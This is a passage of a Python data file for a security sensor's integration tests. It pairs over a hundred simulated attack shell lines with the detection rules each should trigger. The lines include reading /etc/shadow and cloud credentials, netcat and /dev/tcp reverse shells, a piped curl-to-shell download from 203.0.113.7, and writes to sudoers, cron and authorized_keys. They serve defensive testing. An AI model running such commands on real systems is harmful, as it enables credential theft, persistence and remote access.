"""Which attack provokes which rule, and why some rules cannot be provoked on one machine: the data of
tests/integration/test_provoke.py and of the table in rules/DETECTIONS.md.

usage: detections.py FILE        writes that table
       detections.py --check FILE [RULES_FILE…]   says whether it is as it would be written, and whether each rule has a row
"""
import dataclasses
import pathlib
import re
import sys

KNOWN = object()  # any value that is there

HOST, CONTAINER = "host", "container"


@dataclasses.dataclass
class Attack:
    """A line of shell in a folder of its own. `{a}` is the folder with the attacker's program and links to it by
    other names, `{work}` the attack's folder. `says` is what the table says."""
    name: str
    where: str
    script: str
    says: str
    first: bool = False  # begun before all others and awaited at the end: it takes its time


@dataclasses.dataclass
class Detection:
    """What the alert must say; `without` are fields that the rule's text prints and that do not exist here;
    `not_by_ptrace` says why a sensor that runs a command, or attaches, does not see it; `not_by_attach` that of the latter alone."""
    rule: str
    attack: str
    want: dict
    without: tuple = ()
    not_by_ptrace: str = ""
    not_by_attach: str = ""


@dataclasses.dataclass
class Unprovoked:
    rule: str
    why: str


ATTACKS = [
    Attack("trusted", HOST, "exec {a}/nginx later 6 /etc/shadow", "a program named nginx, six seconds old, opens /etc/shadow", first=True),
    Attack("traversal", HOST, "{a}/webapp run cat {work}/../../../../../../../../etc/pam.conf",
           "a server's child opens ../../../../etc/pam.conf"),
    Attack("shadow", HOST, "cat /etc/shadow", "cat /etc/shadow"),
    Attack("sudoers", CONTAINER, "cat /etc/sudoers", "cat /etc/sudoers"),
    Attack("server shell", HOST, "{a}/redis-server run sh -c 'true; true'", "a program named redis-server starts a shell"),
    Attack("system user", HOST, "{a}/sshd run {a}/attack user 33 id", "below a program named sshd, www-data runs id"),
    Attack("shell on a terminal", CONTAINER, None, "podman exec -it … sh"),
    Attack("netcat", CONTAINER, "/bin/nc -e /bin/sh 127.0.0.1 1", "nc -e /bin/sh …"),
    Attack("grep keys", HOST, "grep -r 'BEGIN RSA PRIVATE' .", "grep -r 'BEGIN RSA PRIVATE' ."),
    Attack("find keys", CONTAINER, "/bin/find /etc -name id_rsa", "find … -name id_rsa"),
    Attack("empty log", HOST, "touch auth.log; {a}/attack empty auth.log", "opens a file named auth.log with O_TRUNC"),
    Attack("shred", HOST, "echo x >junk; shred -u junk", "shred -u FILE"),
    Attack("symlink", HOST, "ln -s /etc/shadow innocent", "ln -s /etc/shadow innocent"),
    Attack("hard link", HOST, "{a}/attack link /etc/shadow {work}/innocent", "link(\"/etc/shadow\", …)"),
    Attack("packet socket", CONTAINER, "{a}/attack packets", "socket(AF_PACKET, SOCK_RAW, …)"),
    Attack("shell on a socket", CONTAINER, "{a}/attack shell", "dup2 of a TCP connection onto 0, 1 and 2, then sh"),
    Attack("module", CONTAINER, "{a}/attack module", "finit_module of a file that is no module"),
    Attack("debugfs", CONTAINER, "debugfs -V", "debugfs in a container of --privileged"),
    Attack("release agent", CONTAINER, "{a}/attack write release_agent", "a file named release_agent opened for writing"),
    Attack("ptrace", HOST, "{a}/attack trace", "PTRACE_ATTACH to another process"),
    Attack("anti-debug", CONTAINER, "{a}/attack traceme", "PTRACE_TRACEME"),
    Attack("AWS keys", HOST, "grep aws_secret_access_key x", "grep aws_secret_access_key …"),
    Attack("shared memory", HOST, "cp {a}/attack /dev/shm/{unique}; /dev/shm/{unique}; rm /dev/shm/{unique}",
           "a program copied into /dev/shm and run"),
    Attack("dropped program", CONTAINER, "cp {a}/attack /tmp/dropped; /tmp/dropped",
           "a program copied within a container of overlayfs and run"),
    Attack("ssh port", CONTAINER, "{a}/attack wire {a}/ssh call 203.0.113.7 443", "a program named ssh connects to port 443"),
    Attack("fileless", HOST, "{a}/attack memory", "a program run from memfd_create's memory by execveat"),
    # What the shipped rules know besides.
    Attack("shell on a socket, host", HOST, "{a}/attack shell", "dup2 of a TCP connection onto 0, 1 and 2, then sh"),
    Attack("shell's own connection", HOST, "sh -c ': /dev/tcp/203.0.113.7/1 0>&1; true'", "sh -c '… /dev/tcp/… 0>&1'"),
    Attack("piped download", HOST, "sh -c 'false && curl http://203.0.113.7/x | sh'", "sh -c '… curl … | sh'"),
    Attack("scanner", CONTAINER, "{a}/nmap usage", "a program named nmap"),
    Attack("tor", HOST, "{a}/tor usage", "a program named tor"),
    Attack("miner", HOST, "{a}/xmrig usage", "a program named xmrig"),
    Attack("pool", CONTAINER, "{a}/attack wire {a}/attack call 203.0.113.7 3333", "connect to port 3333"),
    Attack("runtime's socket", CONTAINER, "{a}/attack unix {work}/docker.sock", "connect to a socket named docker.sock"),
    Attack("notify on release", CONTAINER, "{a}/attack write notify_on_release", "a file named notify_on_release opened for writing"),
    Attack("cgroups mounted", CONTAINER, "mkdir g; /bin/mount -t cgroup2 cgroup g; /bin/umount g", "mount -t cgroup2 cgroup …"),
    Attack("disk mounted", CONTAINER, "mkdir d; /bin/mount -t tmpfs /dev/sdz d; /bin/umount d", "a mount whose device is named /dev/sdz"),
    Attack("disk opened", CONTAINER, "touch /dev/sdz; cat /dev/sdz; rm /dev/sdz", "a file named /dev/sdz opened"),
    Attack("other namespace", CONTAINER, "{a}/attack enter", "setns into a namespace of its own"),
    Attack("user namespace", CONTAINER, "{a}/attack user-namespace", "unshare(CLONE_NEWUSER)"),
    Attack("chroot", CONTAINER, "mkdir -p /mnt; /bin/chroot /mnt x", "chroot(\"/mnt\")"),
    Attack("host's settings", CONTAINER, "mkdir -p /mnt/etc; {a}/attack write /mnt/etc/x", "/mnt/etc/x opened for writing"),
    Attack("runtime's program", CONTAINER, "{a}/attack write runc", "a file named runc opened for writing"),
    Attack("core pattern", CONTAINER, "{a}/attack write /proc/sys/kernel/core_pattern", "core_pattern opened for writing"),
    Attack("kernel's helper", CONTAINER, "{a}/attack write /proc/sys/kernel/poweroff_cmd", "poweroff_cmd opened for writing"),
    Attack("system request", CONTAINER, "mkdir proc; {a}/attack write proc/sysrq-trigger", "a file named …/proc/sysrq-trigger opened for writing"),
    Attack("kernel's protection", CONTAINER, "{a}/attack write /proc/sys/kernel/kptr_restrict", "kptr_restrict opened for writing"),
    Attack("bpf", HOST, "{a}/attack bpf", "BPF_PROG_LOAD of a socket filter"),
    Attack("kernel's memory", CONTAINER, "touch /dev/mem; cat /dev/mem; rm /dev/mem", "a file named /dev/mem opened"),
    Attack("kernel's symbols", HOST, "head -1 /proc/kallsyms", "head /proc/kallsyms"),
    Attack("scheduler's file", CONTAINER,
           "/bin/mount -t tmpfs x /sys/kernel/debug && cd /sys/kernel/debug && touch sched_debug && cat sched_debug; cd /; /bin/umount /sys/kernel/debug",
           "a file named /sys/kernel/debug/sched_debug read"),
    Attack("randomisation", HOST, "cat /proc/sys/kernel/randomize_va_space", "cat /proc/sys/kernel/randomize_va_space"),
    Attack("page faults", HOST, "{a}/attack nobody page-faults", "nobody calls userfaultfd"),
    Attack("anti-debug, host", HOST, "{a}/attack traceme", "PTRACE_TRACEME"),
    Attack("memory written", HOST, "{a}/attack open-write /proc/self/mem", "/proc/PID/mem opened for writing"),
    Attack("memory read", HOST, "{a}/attack read /proc/self/mem", "/proc/PID/mem opened for reading"),
    Attack("memory written by call", HOST, "{a}/attack poke", "process_vm_writev into a child"),
    Attack("disguise", HOST, "{a}/kthreadd usage", "a program named kthreadd"),
    Attack("io_uring", CONTAINER, "{a}/attack ring", "io_uring_setup (the rule is off by default)"),
    Attack("pkexec", HOST, "GCONV_PATH=. {a}/pkexec usage", "a program named pkexec with GCONV_PATH"),
    Attack("setuid", HOST, "{a}/attack nobody become-root", "nobody calls setuid(0)"),
    Attack("setuid bit", HOST, "touch x; chmod u+s x", "chmod u+s FILE"),
    Attack("setcap", HOST, "{a}/setcap x", "a program named setcap"),
    Attack("hidden program", HOST, "cp {a}/attack .hidden; ./.hidden", "a program named .hidden"),
    Attack("hidden file", HOST, "touch .young; chmod 755 .young", "chmod 755 .young"),
    Attack("preload", HOST, "LD_PRELOAD=/tmp/{unique}.so {a}/attack usage", "LD_PRELOAD=/tmp/….so"),
    Attack("preload list", CONTAINER, "{a}/attack write /etc/ld.so.preload; rm /etc/ld.so.preload", "/etc/ld.so.preload opened for writing"),
    Attack("loader", CONTAINER, "mkdir -p /lib; {a}/attack write /lib/ld-linux.so.9", "/lib/ld-linux.so.9 opened for writing"),
    Attack("library", CONTAINER, "mkdir -p /usr/lib; {a}/attack write /usr/lib/libx.so", "/usr/lib/libx.so opened for writing"),
    Attack("sudoers changed", CONTAINER, "mkdir -p /etc/sudoers.d; {a}/attack write /etc/sudoers.d/x", "/etc/sudoers.d/x opened for writing"),
    Attack("cron", CONTAINER, "mkdir -p /etc/cron.d; {a}/attack write /etc/cron.d/x", "/etc/cron.d/x opened for writing"),
    Attack("crontab", HOST, "{a}/crontab usage", "a program named crontab"),
    Attack("service", CONTAINER, "mkdir -p /etc/systemd/system; touch /etc/young; /bin/mv /etc/young /etc/systemd/system/x.service",
           "a file renamed to /etc/systemd/system/x.service"),
    Attack("start script", CONTAINER, "mkdir -p /etc/init.d; {a}/attack write /etc/init.d/x", "/etc/init.d/x opened for writing"),
    Attack("shell's file", CONTAINER, "mkdir -p /root; {a}/attack write /root/.bashrc", "/root/.bashrc opened for writing"),
    Attack("authorized keys", CONTAINER, "mkdir -p /root/.ssh; {a}/attack write /root/.ssh/authorized_keys", "authorized_keys opened for writing"),
    Attack("login modules", CONTAINER, "mkdir -p /etc/pam.d; {a}/attack write /etc/pam.d/x", "/etc/pam.d/x opened for writing"),
    Attack("boot", CONTAINER, "mkdir -p /etc/modprobe.d; {a}/attack write /etc/modprobe.d/x", "/etc/modprobe.d/x opened for writing"),
    Attack("account", HOST, "{a}/useradd usage", "a program named useradd"),
    Attack("private key", HOST, "mkdir .ssh; touch .ssh/id_rsa; cat .ssh/id_rsa", "cat .ssh/id_rsa"),
    Attack("credentials", HOST, "mkdir .aws; touch .aws/credentials; cat .aws/credentials", "cat .aws/credentials"),
    Attack("Kubernetes' key", CONTAINER, "mkdir -p /etc/kubernetes; touch /etc/kubernetes/admin.conf; cat /etc/kubernetes/admin.conf",
           "cat /etc/kubernetes/admin.conf"),
    Attack("token", CONTAINER, "d=/run/secrets/kubernetes.io/serviceaccount; mkdir -p $d; touch $d/token; cat $d/token", "cat …/serviceaccount/token"),
    Attack("Kubernetes' API", CONTAINER, "{a}/attack wire {a}/curl call 10.96.0.1 443", "a program named curl connects to 10.96.0.1:443, which is the name's of the cluster's API"),
    Attack("metadata", CONTAINER, "{a}/attack wire {a}/curl call 169.254.169.254 80", "a program named curl connects to 169.254.169.254:80"),
    Attack("environment", CONTAINER, "cat /proc/1/environ", "cat /proc/1/environ"),
    Attack("find setuid", HOST, "find . -perm -4000", "find . -perm -4000"),
    Attack("log removed", CONTAINER, "mkdir -p /var/log; touch /var/log/auth.log; /bin/rm /var/log/auth.log", "rm /var/log/auth.log"),
    Attack("history", HOST, "touch .bash_history; rm .bash_history", "rm .bash_history"),
    Attack("no history", HOST, "HISTSIZE=0 {a}/attack terminal sh -c true", "HISTSIZE=0 sh on a terminal"),
    Attack("guard stopped", HOST, "{a}/systemctl stop auditd", "a program named systemctl with: stop auditd"),
    Attack("binary directory", CONTAINER, "mkdir -p /usr/bin; {a}/attack write /usr/bin/x", "/usr/bin/x opened for writing"),
    Attack("sensor's settings", CONTAINER, "mkdir -p /etc/tocsin; {a}/attack write /etc/tocsin/sensor.env",
           "/etc/tocsin/sensor.env opened for writing"),
    Attack("name of a thread", HOST, "{a}/attack disguise kworker/0:1", "prctl(PR_SET_NAME, \"kworker/0:1\")"),
    Attack("bpftool", HOST, "{a}/bpftool map update id 0", "a program named bpftool with: map update"),
    Attack("etc", CONTAINER, "{a}/attack write /etc/x", "/etc/x opened for writing"),
    Attack("new program", HOST, "cp {a}/attack fresh; ./fresh", "a program copied and run at once"),
    Attack("made executable", CONTAINER, "touch x; chmod 755 x", "chmod 755 FILE in a container"),
    # What generators of attacks do besides.
    Attack("shell's settings", HOST, "{a}/attack write .zshrc", ".zshrc opened for writing"),
    Attack("shell's settings read", HOST, "touch .zshenv; cat .zshenv", "cat .zshenv"),
    Attack("folder of keys", CONTAINER, "mkdir -p /root/.ssh; /bin/ls /root/.ssh", "ls /root/.ssh"),
    Attack("known hosts", CONTAINER, "mkdir -p /root/.ssh; touch /root/.ssh/known_hosts; cat /root/.ssh/known_hosts", "cat /root/.ssh/known_hosts"),
    Attack("database", HOST, "{a}/mysqld run ls", "a program named mysqld runs ls"),
    Attack("namespace of the host", HOST, "{a}/attack enter", "setns into a namespace of its own"),
    Attack("container", CONTAINER, "true", "podman run --privileged -v …:/var/tmp … sleep"),
    Attack("system program", CONTAINER, "{a}/attack wire {a}/sha1sum call 203.0.113.7 8000", "a program named sha1sum connects"),
    Attack("proxy", HOST, "HTTP_PROXY=http://203.0.113.7:1 {a}/curl usage", "a program named curl with HTTP_PROXY"),
    Attack("tunables", HOST, "GLIBC_TUNABLES=glibc.tune.hwcaps=-WAITED sh -c id", "sh with GLIBC_TUNABLES"),
    Attack("connected datagram", CONTAINER, "{a}/attack wire {a}/attack call-datagram 203.0.113.7 7000", "a UDP socket connects to port 7000"),
    Attack("datagram", CONTAINER, "{a}/attack wire {a}/attack datagram 203.0.113.7 7001", "sendto of a UDP socket to port 7001"),
    Attack("setuid within", CONTAINER, "{a}/attack user 33 id", "root becomes a user of the container's own"),
    Attack("datagram received", CONTAINER, "{a}/attack wire {a}/attack receive 203.0.113.7 7002", "recvfrom of a UDP socket"),
    Attack("device", CONTAINER, "{a}/attack write /dev/young; rm /dev/young", "a file made in /dev"),
    Attack("apk", CONTAINER, "{a}/apk usage", "a program named apk"),
    Attack("socat", HOST, "{a}/socat usage", "a program named socat"),
    Attack("history renamed", HOST, "touch .bash_history; mv .bash_history old", "mv .bash_history old"),
    Attack("history emptied", CONTAINER, "touch .ash_history; {a}/attack empty .ash_history", ".ash_history opened with O_TRUNC"),
    Attack("setuid bit by descriptor", HOST, "{a}/attack fchmod x", "fchmod(FD, 04755)"),
    Attack("scp", CONTAINER, "{a}/scp usage", "a program named scp"),
    Attack("wget", CONTAINER, "{a}/wget usage", "a program named wget"),
    Attack("curl -o", CONTAINER, "{a}/curl usage -o x", "a program named curl with -o"),
    Attack("own environment", CONTAINER, "cat /proc/self/environ", "cat /proc/self/environ"),
    Attack("copied out", CONTAINER, None, "podman exec … tar -cf - FILE, as kubectl cp"),
    Attack("host's path", CONTAINER, "mkdir -p /hostfs; touch /hostfs/x; cat /hostfs/x", "cat /hostfs/x"),
    Attack("by a link", CONTAINER,
           "mkdir -p /var /run/secrets/kubernetes.io; ln -s /run /var/run; touch /run/secrets/kubernetes.io/x; cat /var/run/secrets/kubernetes.io/x",
           "cat /var/run/secrets/…, where /var/run is a link"),
    Attack("repository", CONTAINER, "mkdir -p /etc/apt; {a}/attack write /etc/apt/sources.list", "/etc/apt/sources.list opened for writing"),
    Attack("repository renamed", CONTAINER, "mkdir -p /etc/apt; touch /etc/y; /bin/mv /etc/y /etc/apt/z", "a file renamed into /etc/apt"),
    Attack("user's keys", CONTAINER, "mkdir -p /home/amy/.ssh; {a}/attack write /home/amy/.ssh/authorized_keys", "/home/amy/.ssh/authorized_keys opened for writing"),
    Attack("root's file", CONTAINER, "{a}/attack write /young; rm /young", "a file made in /"),
    Attack("rpm", CONTAINER, "mkdir -p /var/lib/rpm; {a}/attack write /var/lib/rpm/x", "/var/lib/rpm/x opened for writing"),
    Attack("binary removed", CONTAINER, "mkdir -p /usr/bin; touch /usr/bin/young; /bin/rm /usr/bin/young", "rm /usr/bin/young"),
    Attack("binary renamed", CONTAINER, "mkdir -p /usr/bin; touch /usr/bin/a; /bin/mv /usr/bin/a /usr/bin/b", "mv /usr/bin/a /usr/bin/b"),
    Attack("directory among binaries", CONTAINER, "mkdir -p /usr/bin/; /bin/mkdir /usr/bin/d", "mkdir /usr/bin/d"),
    Attack("lua listens", CONTAINER, "{a}/attack wire {a}/lua call 203.0.113.7 8001", "a program named lua listens, accepts and connects"),
    Attack("ruby accepts", CONTAINER, "{a}/attack wire {a}/ruby answer 203.0.113.7 8002", "a program named ruby accepts"),
    Attack("node port", CONTAINER, "{a}/attack wire {a}/attack call 203.0.113.7 30001", "connect to port 30001"),
    Attack("hidden folder", HOST, "mkdir .folder", "mkdir .folder"),
    Attack("stratum", HOST, "{a}/attack usage -o stratum2+tcp://203.0.113.7", "a program with stratum2+tcp://…"),
    Attack("kubectl", CONTAINER, "{a}/kubectl usage", "a program named kubectl"),
    Attack("executable made", CONTAINER, "{a}/attack make-program x", "open(…, O_CREAT, 0755)"),
    Attack("executable by creat", CONTAINER, "{a}/attack creat x", "creat(…, 0755)"),
    Attack("sudoedit", CONTAINER, "{a}/attack nobody start sudoedit -s '12345678901234567890\\\\'", "nobody starts sudoedit -s …\\\\"),
    Attack("pkexec without arguments", CONTAINER, "{a}/attack nobody start pkexec", "nobody starts pkexec"),
    Attack("entry point", CONTAINER, "{a}/attack open-write /proc/self/fd/1", "/proc/self/fd/1 opened for writing"),
    Attack("base64", CONTAINER, "echo YQ== | /bin/base64 -d", "base64 -d"),
    Attack("whoami", HOST, "{a}/attack terminal whoami", "whoami on a terminal"),
    Attack("npm", CONTAINER, "{a}/npm run {a}/attack run {a}/nmap usage", "a grandchild of a program named npm is nmap"),
    Attack("capability", HOST, "{a}/attack capability gifted", "setxattr(FILE, \"security.capability\", …)"),
    Attack("class file", HOST, "{a}/java class-file", "a program named java receives a class file"),
    Attack("unshare", HOST, "{a}/attack nobody user-namespace", "nobody calls unshare(CLONE_NEWUSER)"),
]

NO_LAYER = "does not know the layers of overlayfs"
TRACED = "the process is traced already"
STARTED = "sees what its own command starts"

FALCO = [
    Detection("Directory traversal monitored file read", "traversal",
              {"proc.name": "cat", "proc.pname": "webapp", "fd.name": "/etc/pam.conf", "fd.nameraw": re.compile(r"/.*(/\.\.){8}/etc/pam\.conf$")}),
    Detection("Read sensitive file trusted after startup", "trusted",
              {"proc.name": "nginx", "proc.cmdline": "nginx later 6 /etc/shadow", "fd.name": "/etc/shadow"}),
    Detection("Read sensitive file untrusted", "shadow", {"proc.name": "cat", "proc.cmdline": "cat /etc/shadow", "fd.name": "/etc/shadow"}),
    Detection("Read sensitive file untrusted", "sudoers", {"proc.name": "cat", "fd.name": "/etc/sudoers"}),
    Detection("Run shell untrusted", "server shell",
              {"proc.name": "sh", "proc.pname": "redis-server", "proc.cmdline": "sh -c true; true", "proc.pcmdline": "redis-server run sh -c true; true"}),
    Detection("System user interactive", "system user", {"proc.name": "id", "proc.pname": "sshd", "user.name": "www-data", "user.uid": 33}),
    Detection("Terminal shell in container", "shell on a terminal",
              {"proc.name": "sh", "proc.pname": KNOWN, "proc.cmdline": "sh", "proc.cwd": "/", "proc.tty": re.compile("[1-9]")}),
    Detection("Contact K8S API Server From Container", "Kubernetes' API",
              {"proc.name": "curl", "fd.rport": 443, "fd.l4proto": "tcp", "fd.name": re.compile(r".*->10\.96\.0\.1:443$")}),
    Detection("Netcat Remote Code Execution in Container", "netcat", {"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 127.0.0.1 1"}),
    Detection("Search Private Keys or Passwords", "grep keys", {"proc.name": "grep", "proc.cmdline": "grep -r BEGIN RSA PRIVATE ."}),
    Detection("Search Private Keys or Passwords", "find keys", {"proc.name": "find", "proc.cmdline": "find /etc -name id_rsa"}),
    Detection("Clear Log Activities", "empty log", {"proc.name": "attack", "fd.name": "{work}/auth.log", "evt.type": "openat"}),
    Detection("Remove Bulk Data from Disk", "shred", {"proc.name": "shred", "proc.cmdline": "shred -u junk"}, without=("fd.name",)),
    Detection("Create Symlink Over Sensitive Files", "symlink",
              {"proc.name": "ln", "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "{work}/innocent"}),
    Detection("Create Hardlink Over Sensitive Files", "hard link",
              {"proc.name": "attack", "evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "{work}/innocent"}),
    Detection("Packet socket created in container", "packet socket",
              {"proc.name": "attack", "evt.type": "socket"}, without=("fd.name", "fd.lport", "fd.rport", "fd.l4proto")),
    Detection("Redirect STDOUT/STDIN to Network Connection in Container", "shell on a socket",
              {"proc.name": "attack", "evt.type": "dup2", "fd.type": "ipv4", "fd.l4proto": "tcp", "fd.sip": "127.0.0.1",
               "fd.name": re.compile(r"127\.0\.0\.1:\d+->127\.0\.0\.1:\d+$")}),
    Detection("Linux Kernel Module Injection Detected", "module",
              {"proc.name": "attack", "evt.type": "finit_module", "evt.res": re.compile("E"), "proc.args": "module"}),
    Detection("Debugfs Launched in Privileged Container", "debugfs", {"proc.name": "debugfs", "proc.exepath": "/bin/busybox"}),
    Detection("Detect release_agent File Container Escapes", "release agent",
              {"proc.name": "attack", "fd.name": "{work}/release_agent", "thread.cap_effective": re.compile(".*CAP_SYS_ADMIN")}),
    Detection("PTRACE attached to process", "ptrace", {"proc.name": "attack", "proc.pcmdline": re.compile("sh -c ")}),
    Detection("PTRACE anti-debug attempt", "anti-debug", {"proc.name": "attack"}),
    Detection("Find AWS Credentials", "AWS keys", {"proc.name": "grep", "proc.cmdline": "grep aws_secret_access_key x", "group.name": "root"}),
    Detection("Execution from /dev/shm", "shared memory",
              {"proc.name": re.compile("provoke"), "proc.exepath": re.compile("/dev/shm/provoke"), "evt.res": "SUCCESS"}, without=("fd.name",)),
    Detection("Drop and execute new binary in container", "dropped program",
              {"proc.name": "dropped", "proc.exepath": "/tmp/dropped", "evt.arg.flags": re.compile(".*EXE_UPPER_LAYER"),
               "container.start_ts": KNOWN}, not_by_ptrace=NO_LAYER),
    Detection("Disallowed SSH Connection Non Standard Port", "ssh port",
              {"proc.name": "ssh", "evt.type": "connect", "fd.rport": 443, "fd.l4proto": "tcp",
               "fd.name": re.compile(r"203\.0\.113\.7:\d+->203\.0\.113\.7:443$")}),
    Detection("Fileless execution via memfd_create", "fileless",
              {"proc.name": KNOWN, "proc.exepath": re.compile("memfd:ghost"), "evt.type": "execveat"}),
]

ATTACK = {"proc.name": "attack"}
EXEC = ("fd.name", "evt.arg.arg2_str", "proc.env[LD_AUDIT]")


def writes(rule, attack, path, without=()):
    return Detection(rule, attack, {**ATTACK, "fd.name": path}, without)


def starts(rule, attack, name, **want):
    return Detection(rule, attack, {"proc.name": name, "evt.type": "execve", **want}, EXEC)


SHIPPED = [
    Detection("Reverse shell", "shell on a socket, host", {"proc.name": "sh", "evt.type": "execve"}, EXEC),
    starts("Reverse shell in a command line", "shell's own connection", "sh"),
    starts("Netcat gives a program to the network", "netcat", "nc"),
    starts("Shell started by a server program", "server shell", "sh", **{"proc.pname": "redis-server"}),
    starts("Download piped into a shell", "piped download", "sh"),
    Detection("Interactive shell in container", "shell on a terminal",
              {"proc.name": "sh", "proc.pname": KNOWN, "proc.cwd": "/", "proc.tty": re.compile("[1-9]")}),
    starts("Network tool started in container", "scanner", "nmap"),
    Detection("Packet socket opened in container", "packet socket", ATTACK),
    starts("Tor started", "tor", "tor"),
    starts("Cryptominer started", "miner", "xmrig"),
    Detection("Connection to mining pool port", "pool", {**ATTACK, "fd.rport": 3333}),
    Detection("Container runtime socket used in container", "runtime's socket", {**ATTACK, "fd.name": re.compile(r".*{work}/docker\.sock$")}),
    writes("Release agent of a cgroup changed", "release agent", "{work}/release_agent"),
    writes("Notification of an empty cgroup switched on", "notify on release", "{work}/notify_on_release"),
    Detection("Cgroup file system mounted in container", "cgroups mounted", {"proc.name": "mount"}),
    Detection("Disk mounted in container", "disk mounted", {"proc.name": "mount", "evt.arg.dev": "/dev/sdz", "evt.arg.dir": "{work}/d"}),
    Detection("Disk device opened in container", "disk opened", {"proc.name": "cat", "fd.name": "/dev/sdz"}),
    Detection("Namespace entered from container", "other namespace", {**ATTACK, "evt.type": "setns"}),
    Detection("User namespace created in container", "user namespace", {**ATTACK, "evt.type": "unshare"}),
    Detection("Chroot into the host from container", "chroot", {"proc.name": "chroot", "evt.arg.path": "/mnt"}),
    writes("Host's settings written through a mount", "host's settings", "/mnt/etc/x"),
    writes("Container runtime program overwritten", "runtime's program", "{work}/runc"),
    writes("Core pattern changed", "core pattern", "/proc/sys/kernel/core_pattern"),
    writes("Helper program of the kernel changed", "kernel's helper", "/proc/sys/kernel/poweroff_cmd"),
    writes("Magic system request used", "system request", "{work}/proc/sysrq-trigger"),
    writes("Kernel protection switched off", "kernel's protection", "/proc/sys/kernel/kptr_restrict"),
    Unprovoked("Kernel module loaded in container", "wants a module built for the kernel that runs"),
    Unprovoked("Kernel module loaded", "wants a module built for the kernel that runs"),
    Detection("eBPF program loaded by unknown program", "bpf", {**ATTACK, "evt.type": "bpf"}),
    Detection("Memory of the kernel opened", "kernel's memory", {"proc.name": "cat", "fd.name": "/dev/mem"}),
    Detection("Kernel symbols read", "kernel's symbols", {"proc.name": "head", "fd.name": "/proc/kallsyms"}),
    Detection("Scheduler's debug file read", "scheduler's file",
              {"proc.name": "cat", "proc.cwd": "/sys/kernel/debug/", "fd.name": "/sys/kernel/debug/sched_debug"}),
    Detection("Address randomisation inspected", "randomisation", {"proc.name": "cat", "fd.name": "/proc/sys/kernel/randomize_va_space"}),
    Detection("Userfaultfd used by unprivileged program", "page faults", {**ATTACK, "user.name": "nobody"}),
    Unprovoked("System call refused by the profile", "wants a command under a profile: tests/integration/test_seccomp.py"),
    Detection("Asynchronous input and output set up in container", "io_uring", {**ATTACK, "evt.arg.entries": KNOWN}),
    Detection("Anti-debugging by ptrace", "anti-debug, host", ATTACK, not_by_attach=TRACED),
    Detection("Process traced by another", "ptrace", {**ATTACK, "evt.arg.pid": "attack", "evt.res": KNOWN}),
    Detection("Memory of a process written", "memory written", {**ATTACK, "fd.name": re.compile(r"/proc/\d+/mem$")}),
    Detection("Memory of a process read", "memory read", {**ATTACK, "fd.name": re.compile(r"/proc/\d+/mem$")}),
    Detection("Memory of a process written by system call", "memory written by call", {**ATTACK, "evt.arg.pid": "attack"}),
    starts("Process disguised as kernel thread", "disguise", "kthreadd"),
    Detection("Process disguised as kernel thread", "name of a thread",
              {"evt.type": "prctl", "evt.arg.arg2_str": "kworker/0:1"}, ("fd.name", "proc.env[LD_AUDIT]")),
    writes("Sensor's own files changed", "sensor's settings", "/etc/tocsin/sensor.env",
           ("evt.arg.path", "evt.arg.oldpath", "evt.arg.newpath")),
    Detection("eBPF objects of others opened", "bpftool", {"proc.name": "bpftool", "evt.type": "execve"},
              ("evt.arg.cmd",)),
    starts("Known exploit of a setuid program", "pkexec", "pkexec"),
    Detection("Privilege escalation by setuid", "setuid", {**ATTACK, "evt.res": "EPERM", "user.name": "nobody", "user.uid": 65534}),
    Detection("Setuid or setgid bit set", "setuid bit",
              {"proc.name": "chmod", "evt.arg.filename": "{work}/x", "evt.arg.mode": re.compile(".*S_ISUID")}, ("fd.name",)),
    Detection("Capability given to a file", "setcap", {"proc.name": "setcap", "evt.type": "execve"}, ("fd.name", "evt.arg.path")),
    Detection("Capability given to a file", "capability", {**ATTACK, "evt.type": "setxattr"}, ("fd.name",)),
    Detection("Fileless execution", "fileless", {"proc.name": KNOWN, "proc.exepath": "memfd:ghost"}),
    Detection("Program executed from shared memory", "shared memory", {"proc.name": "{unique}", "proc.exepath": "/dev/shm/{unique}"}),
    starts("Hidden program executed", "hidden program", ".hidden", **{"proc.exepath": "{work}/.hidden"}),
    Detection("Hidden program written", "hidden file", {"proc.name": "chmod", "evt.arg.filename": "{work}/.young"}, ("fd.name",)),
    starts("Library preloaded", "preload", "attack", **{"proc.env[LD_PRELOAD]": "/tmp/{unique}.so"}),
    writes("Preload list of the linker changed", "preload list", "/etc/ld.so.preload", ("evt.arg.newpath",)),
    writes("Program loader replaced", "loader", "/lib/ld-linux.so.9", ("evt.arg.newpath",)),
    writes("Library written to a system directory", "library", "/usr/lib/libx.so"),
    writes("Sudoers changed", "sudoers changed", "/etc/sudoers.d/x", ("evt.arg.newpath",)),
    writes("Scheduled task changed", "cron", "/etc/cron.d/x", ("evt.arg.newpath",)),
    starts("Task given to cron or at", "crontab", "crontab"),
    Detection("System service changed", "service", {"proc.name": "mv", "evt.arg.newpath": "/etc/systemd/system/x.service"}, ("fd.name",)),
    writes("Start script changed", "start script", "/etc/init.d/x", ("evt.arg.newpath", "evt.arg.linkpath")),
    writes("Shell start-up file changed", "shell's file", "/root/.bashrc"),
    writes("Authorized keys changed", "authorized keys", "/root/.ssh/authorized_keys", ("evt.arg.newpath",)),
    writes("Login modules changed", "login modules", "/etc/pam.d/x", ("evt.arg.newpath",)),
    writes("Boot or device rules changed", "boot", "/etc/modprobe.d/x"),
    starts("Account created", "account", "useradd"),
    Detection("Secret file read by untrusted program", "shadow", {"proc.name": "cat", "fd.name": "/etc/shadow"}),
    Detection("Link to a secret file made", "symlink", {"proc.name": "ln", "evt.arg.target": "/etc/shadow"}, ("evt.arg.oldpath", "evt.arg.newpath")),
    Detection("SSH private key read", "private key", {"proc.name": "cat", "fd.name": "{work}/.ssh/id_rsa"}),
    Detection("Credentials of a cloud or registry read", "credentials", {"proc.name": "cat", "fd.name": "{work}/.aws/credentials"}),
    Detection("Key of Kubernetes read", "Kubernetes' key", {"proc.name": "cat", "fd.name": "/etc/kubernetes/admin.conf"}),
    Detection("Service account token read by a tool", "token", {"proc.name": "cat", "fd.name": "/run/secrets/kubernetes.io/serviceaccount/token"}),
    Detection("Kubernetes API contacted by a tool", "Kubernetes' API", {"proc.name": "curl", "fd.name": re.compile(".*->10.96.0.1:443$")}),
    Detection("Cloud metadata contacted by a tool", "metadata", {"proc.name": "curl", "fd.name": re.compile(".*->169.254.169.254:80$")}),
    Detection("Environment of a container's first process read", "environment", {"proc.name": "cat", "fd.name": "/proc/1/environ"}),
    starts("Search for secrets", "find keys", "find"),
    starts("Search for setuid programs", "find setuid", "find"),
